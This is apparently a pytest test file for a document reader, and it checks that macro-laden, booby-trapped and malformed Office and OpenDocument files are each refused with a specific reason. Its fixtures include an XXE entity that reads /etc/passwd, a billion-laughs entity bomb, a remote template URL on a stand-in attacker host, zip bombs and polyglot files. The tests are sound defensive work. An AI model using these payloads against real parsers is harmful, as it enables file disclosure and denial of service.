"""Office and OpenDocument files that attack are refused, each for its reason."""

import struct
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

import pytest

from tests.reading import made
from tiex.reading import reasons
from tiex.reading.read import read_bytes
from tiex.reading.types import Refused

OLD_CONTAINER = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
TYPES, RELS = "[Content_Types].xml", "word/_rels/document.xml.rels"
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="%s" TargetMode="External"/></Relationships>'
)
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def reason_for(data: bytes, name: str = "report.docx") -> str:
    with pytest.raises(Refused) as refusal:
        read_bytes(data, name)
    return refusal.value.reason


def macro_document() -> bytes:
    """A docm as Word writes it."""
    document = made.word()
    types = made.member_of(document, TYPES).replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"vnd.ms-word.document.macroEnabled.main+xml",
    )
    return made.changed(document, {TYPES: types, "word/vbaProject.bin": OLD_CONTAINER})


def old_container(*streams: str) -> bytes:
    return OLD_CONTAINER + bytes(600) + b"".join(name.encode("utf-16-le") for name in streams)


def zipped(members: dict[str, bytes]) -> bytes:
    file = BytesIO()
    with ZipFile(file, "w", ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return file.getvalue()


@pytest.mark.parametrize("name", ["budget.docm", "budget.docx", "budget.pdf"])
def test_macros_are_found_whatever_the_name(name: str) -> None:
    assert reason_for(macro_document(), name) == reasons.MACROS


@pytest.mark.parametrize(
    "members",
    [
        {"word/vbaProject.bin": b"anything"},
        {"word/renamed.dat": old_container("_VBA_PROJECT")},
        {"xl/macrosheets/sheet1.xml": b"<a/>"},
        {"word/activeX/activeX1.xml": b"<a/>"},
        {"word/embeddings/budget.xlsm": made.changed(made.excel(), {"xl/vbaProject.bin": b"anything"})},
    ],
    ids=lambda members: next(iter(members)),
)
def test_macros_are_found_wherever_they_are(members: dict[str, bytes]) -> None:
    assert reason_for(made.changed(made.word(), members)) == reasons.MACROS
    assert reason_for(made.changed(made.excel(), members)) == reasons.MACROS


def test_a_workbook_with_macros_is_refused() -> None:
    book = made.excel()
    types = made.member_of(book, TYPES).replace(
        b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"vnd.ms-excel.sheet.macroEnabled.main+xml"
    )
    assert reason_for(made.changed(book, {TYPES: types})) == reasons.MACROS


def test_macros_of_opendocument_are_found() -> None:
    assert reason_for(made.changed(made.odt(), {"Basic/Standard/Module1.xml": b"<a/>"})) == reasons.MACROS
    assert reason_for(made.changed(made.odt(), {"Scripts/python/a.py": b"import os"})) == reasons.MACROS


def test_an_empty_list_of_macros_is_no_macro() -> None:
    members = {"Basic/script-lc.xml": b"<a/>", "Basic/Standard/script-lb.xml": b"<a/>", "Basic/Standard/": b""}
    assert read_bytes(made.changed(made.odt(), members), "").reading.pages


@pytest.mark.parametrize(
    "content",
    [b"MZ" + bytes(100), b"\x7fELF" + bytes(100), old_container("\x01Ole10Native"), zipped({"virus.exe": b"MZ"})],
    ids=["exe", "elf", "package", "zip"],
)
def test_a_program_inside_is_refused(content: bytes) -> None:
    assert reason_for(made.changed(made.word(), {"word/embeddings/a.bin": content})) == reasons.PROGRAM_INSIDE


def test_the_workbook_behind_a_chart_is_taken() -> None:
    inside = made.changed(made.powerpoint("One"), {"ppt/embeddings/book.xlsx": made.excel()})
    assert "One" in read_bytes(inside, "").reading.text


def test_documents_within_documents_end_somewhere() -> None:
    data = made.excel()
    for _ in range(4):
        data = made.changed(made.word(), {"word/embeddings/a.docx": data})
    assert reason_for(data) == reasons.PROGRAM_INSIDE


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("name", ["word/document.xml", "word/_rels/document.xml.rels", TYPES, "customXml/item1"])
def test_xml_that_fetches_is_refused(name: str, encoding: str) -> None:
    document = made.word()
    old = b"<a/>" if name.startswith("custom") else made.member_of(document, name).split(b"?>", 1)[1]
    text = XXE.decode().replace("?>", f' encoding="{encoding}"?>') + old.decode()
    assert reason_for(made.changed(document, {name: text.encode(encoding)})) == reasons.DOCUMENT_TYPE


@pytest.mark.parametrize("name", ["content.xml", "META-INF/manifest.xml", "styles.xml"])
def test_opendocument_that_fetches_is_refused(name: str) -> None:
    assert reason_for(made.changed(made.odt(), {name: XXE + b"<a>&e;</a>"})) == reasons.DOCUMENT_TYPE


def test_a_billion_laughs_are_refused() -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l9;</a>'
    assert reason_for(made.changed(made.excel(), {"xl/sharedStrings.xml": text.encode()})) == reasons.DOCUMENT_TYPE


def test_a_template_from_another_site_is_refused() -> None:
    far = made.changed(
        made.word(), {"word/_rels/settings.xml.rels": (TEMPLATE % "https://evil.example/a.dotm").encode()}
    )
    near = made.changed(made.word(), {"word/_rels/settings.xml.rels": (TEMPLATE % "file:///C:/council.dotx").encode()})
    assert reason_for(far) == reasons.FAR_TEMPLATE
    assert read_bytes(near, "").reading.pages


@pytest.mark.parametrize("package", [made.word(), made.odt(), zipped({"a.txt": b"a"})], ids=["docx", "odt", "zip"])
def test_a_locked_archive_is_refused(package: bytes) -> None:
    """The bit in each header that says so."""
    locked = bytearray(package)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = package.find(mark)
        while start >= 0:
            locked[start + offset] |= 1
            start = package.find(mark, start + 4)
    assert reason_for(bytes(locked)) == reasons.PASSWORD


def test_a_document_with_a_password_is_refused() -> None:
    assert reason_for(old_container("EncryptionInfo", "EncryptedPackage")) == reasons.PASSWORD
    body = "<office:text><text:p>a</text:p></office:text>"
    assert reason_for(made.opendocument("text", body, encrypted=True)) == reasons.PASSWORD


def test_a_document_of_old_office_is_refused() -> None:
    assert reason_for(old_container("WordDocument"), "report.doc") == reasons.OLD_OFFICE


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    assert reason_for(made.changed(made.word(), {"word/media/a.bin": bytes(60_000_000)})) == reasons.BOMB


def test_a_bomb_within_a_document_within_is_refused() -> None:
    inner = made.changed(made.excel(), {"xl/media/a.bin": bytes(60_000_000)})
    assert reason_for(made.changed(made.word(), {"word/embeddings/a.xlsx": inner})) == reasons.BOMB


def test_a_bomb_of_many_members_is_refused() -> None:
    assert reason_for(zipped({f"{n}": b"" for n in range(10_001)})) == reasons.BOMB


def test_a_bomb_that_unpacks_the_same_bytes_twice_is_refused() -> None:
    """Two members in the directory that point to one place."""
    data = zipped({"a": bytes(100_000), "b": bytes(100_000)})
    start = data.rfind(b"PK\x01\x02")
    overlapping = data[: start + 42] + struct.pack("<I", 0) + data[start + 46 :]
    assert reason_for(overlapping) == reasons.BOMB


def test_a_size_that_lies_unpacks_no_further() -> None:
    """The directory says ten bytes; there are sixty million."""
    data = made.changed(made.word(), {"word/media/a.bin": bytes(60_000_000)})
    lying = data.replace(struct.pack("<I", 60_000_000), struct.pack("<I", 10))
    assert reason_for(lying) == reasons.DAMAGED


def test_an_unusual_compression_is_refused() -> None:
    file = BytesIO()
    with ZipFile(file, "w", ZIP_BZIP2) as archive:
        archive.writestr(TYPES, made.member_of(made.word(), TYPES))
    assert reason_for(file.getvalue()) == reasons.DAMAGED


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_members_of_one_name_are_refused() -> None:
    file = BytesIO(made.word())
    with ZipFile(file, "a") as archive:
        archive.writestr("word/document.xml", b"<a/>")
    assert reason_for(file.getvalue()) == reasons.DAMAGED


@pytest.mark.parametrize("extra", [b"<html><script>", b"%PDF-1.7", b"\0" * 30])
def test_something_after_the_end_is_refused(extra: bytes) -> None:
    assert reason_for(made.word() + extra) == reasons.POLYGLOT


def test_two_archives_in_a_row_are_refused() -> None:
    assert reason_for(zipped({"a.class": b"a"}) + made.word()) == reasons.POLYGLOT


def test_an_archive_is_refused() -> None:
    assert "archive" in reason_for(zipped({"a.txt": b"a"}))
    assert "archive" in reason_for(zipped({"mimetype": b"application/epub+zip"}))


def test_a_cut_document_is_refused() -> None:
    document = made.word()
    assert reason_for(document[: len(document) // 2]) == reasons.DAMAGED
    assert reason_for(made.changed(document, {"word/document.xml": None})) == reasons.DAMAGED
    assert reason_for(made.changed(made.odt(), {"content.xml": b"<a>"})) == reasons.DAMAGED


def test_deep_nesting_is_read_or_refused() -> None:
    deep = b"<office:text xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'>"
    nested = made.changed(made.odt(), {"content.xml": deep + b"<a>" * 200_000 + b"</a>" * 200_000 + b"</office:text>"})
    assert read_bytes(nested, "").reading.text == ""
    body = made.member_of(made.word(), "word/document.xml")
    nested = body.replace(b"<w:tbl>", b"<w:p>" * 100_000 + b"</w:p>" * 100_000 + b"<w:tbl>")
    assert reason_for(made.changed(made.word(), {"word/document.xml": nested})) == reasons.DAMAGED
